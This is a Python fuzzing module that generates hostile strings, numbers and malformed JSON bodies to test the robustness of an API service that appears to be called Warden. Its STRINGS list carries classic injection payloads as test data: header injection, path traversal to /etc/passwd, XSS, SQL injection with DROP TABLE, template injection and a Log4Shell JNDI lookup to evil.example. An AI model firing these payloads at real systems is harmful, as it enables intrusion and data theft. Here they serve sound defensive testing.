"""Hostile values: strings, numbers and JSON documents drawn from a seeded `random.Random`.

Every HTML-looking value carries `MARKER`, so a page that echoes one unescaped is caught.
"""

from __future__ import annotations

import json
import random
from typing import Any

MARKER = "<x-fuzz"

STRINGS: tuple[str, ...] = (
    "",
    " ",
    "a",
    "gpt-fake",
    "alpha",
    "\x00",
    "a\x00b",
    "%00",
    "\r\n",
    "x\r\nSet-Cookie: pwned=1",
    "x\nLocation: //evil.example",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png",
    "//evil.example/",
    "https://evil.example/",
    "javascript:alert(1)",
    f'{MARKER} onload="alert(1)">',
    f"</script>{MARKER}>",
    "' OR '1'='1' --",
    "x'; DROP TABLE teams; --",
    "{{7*7}}${7*7}%s%n{0}",
    "${jndi:ldap://evil.example/a}",
    "ünïcödé",
    "日本語のテキスト",
    "\u202eevil\u202c",
    "\u200b\ufeff",
    "😀" * 5,
    "\ud800",  # a lone surrogate: valid as a JSON escape, not encodable as UTF-8
    "a\udfffb",
    "data: [DONE]\n\n",
    "[DONE]",
    '{"nested": "json"}',
    "jane.roe@example.com",
    "4111 1111 1111 1111",
    "AKIAIOSFODNN7EXAMPLE",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-11-20T00:00:00",
    "2026-13-45T99:99:99Z",
    "1e309",
    "-1",
    "NaN",
    "00000000-0000-4000-8000-000000000000",
    "exp_0123456789abcdef",
    "manifest.json",
    "admin",
    "viewer",
    "true",
    "null",
)
NUMBERS: tuple[Any, ...] = (
    0,
    -1,
    1,
    2,
    128,
    129,
    2**31,
    2**63,
    2**64 + 1,
    -(2**63) - 1,
    10**30,
    1e30,
    -1e30,
    1.5,
    -0.0,
    1e308,
    float("inf"),
    float("nan"),
    True,
    False,
)


def text(rng: random.Random) -> str:
    """A hostile string: a listed one, a long one, or random code points."""
    roll = rng.random()
    if roll < 0.7:
        return rng.choice(STRINGS)
    if roll < 0.85:
        return rng.choice("ax\u00e9\u65e5") * rng.choice((255, 256, 257, 4096, 20_000))
    return "".join(
        chr(rng.choice((rng.randrange(0x20, 0x7F), rng.randrange(0, 0x110000)))) for _ in range(12)
    )


def scalar(rng: random.Random) -> Any:
    roll = rng.random()
    if roll < 0.45:
        return text(rng)
    if roll < 0.85:
        return rng.choice(NUMBERS)
    return None


def value(rng: random.Random, depth: int = 3) -> Any:
    """A JSON value of any type, nested at most `depth` levels."""
    roll = rng.random()
    if depth <= 0 or roll < 0.55:
        return scalar(rng)
    if roll < 0.8:
        return [value(rng, depth - 1) for _ in range(rng.randrange(0, 4))]
    return {text(rng)[:40]: value(rng, depth - 1) for _ in range(rng.randrange(0, 4))}


def dumps(rng: random.Random, document: Any) -> bytes:
    """`document` as JSON bytes: ASCII-escaped or raw UTF-8, NaN and Infinity as Python writes them."""
    if rng.random() < 0.5:
        try:
            return json.dumps(document, ensure_ascii=False).encode()
        except UnicodeEncodeError:
            pass  # a lone surrogate: only the escaped form can carry it
    return json.dumps(document).encode()


def nested(depth: int, opener: bytes = b"[") -> bytes:
    closer = b"]" if opener == b"[" else b"}"
    if opener == b"{":
        return b'{"a":' * depth + b"1" + closer * depth
    return opener * depth + closer * depth


def broken_json(rng: random.Random) -> bytes:
    """A body that is not JSON a parser should accept, or is at the edge of what Warden reads."""
    choices: tuple[bytes, ...] = (
        b"",
        b" \n\t",
        b"null",
        b"true",
        b'"a string"',
        b"[]",
        b"[1, 2]",
        b"{",
        b"{}}",
        b'{"model": "gpt-fake",}',
        b'{"model": "gpt-fake"} trailing',
        b'{"model": "gpt-fake\xff\xfe"}',
        b'{"model": "\xc0\xaf\xed\xa0\x80"}',
        b'{"model": "gpt-fake", "messages": "\xe2\x82"}',
        b"\xef\xbb\xbf{}",
        b'{"a": 1e999999, "b": -1e999999, "c": NaN, "d": Infinity}',
        b'{"n": ' + b"9" * 5000 + b"}",
        b'{"model": "a", "model": "gpt-fake"}',
        b'{"\\ud800": "\\udfff"}',
        b'{"model": "gpt-fake", "messages": [{"role": "user", "content": "\\u0000"}]}',
        json.dumps({"model": "gpt-fake"}).encode("utf-16"),
        json.dumps({"model": "gpt-fake"}).encode("utf-32-le"),
        nested(127),
        nested(128),
        nested(129),
        nested(100_000),
        nested(50_000, b"{"),
        b'{"model": "gpt-fake", "messages": ' + nested(100_000) + b"}",
        b"[" * 100_000,
        b'{"a":' * 20_000,
        b"a=b&c=%ff%fe&model=gpt-fake",
        bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400))),
    )
    return rng.choice(choices)


def oversized(rng: random.Random, max_body: int) -> bytes:
    """A JSON body a little under or over `max_body` bytes."""
    target = max_body + rng.choice((-64, -1, 0, 1, 4096))
    head = b'{"model": "gpt-fake", "messages": [{"role": "user", "content": "'
    tail = b'"}]}'
    return head + b"x" * max(0, target - len(head) - len(tail)) + tail
